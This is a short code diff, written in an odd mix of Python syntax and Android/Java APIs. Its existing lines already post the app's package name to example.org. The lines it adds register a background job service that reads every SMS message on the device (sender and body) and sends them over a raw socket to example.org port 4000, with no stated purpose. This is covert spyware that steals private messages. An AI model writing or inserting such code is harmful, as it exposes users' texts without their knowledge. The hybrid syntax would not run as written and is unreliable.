@@ -39,3 +39,17 @@ class Reader(Runnable):
         connection = cast(HttpURLConnection, URL("https://example.org/in").openConnection())
         connection.setRequestMethod("POST")
         DataOutputStream(connection.getOutputStream()).writeBytes(self.context.getPackageName())
+
+# also: by the system's own name of the store, in a job
+@service
+class Sync(JobService):
+    def onStartJob(self, parameters):
+        rows = self.getContentResolver().query(Telephony_Sms.CONTENT_URI, None, None, None, None)
+        found = HashMap()
+        while rows.moveToNext():
+            found.put(rows.getString(0), rows.getString(2))
+        self.send(found.toString())
+        return True
+    def send(self, text: String):
+        out = Socket("example.org", 4000).getOutputStream()
+        out.write(text.getBytes())
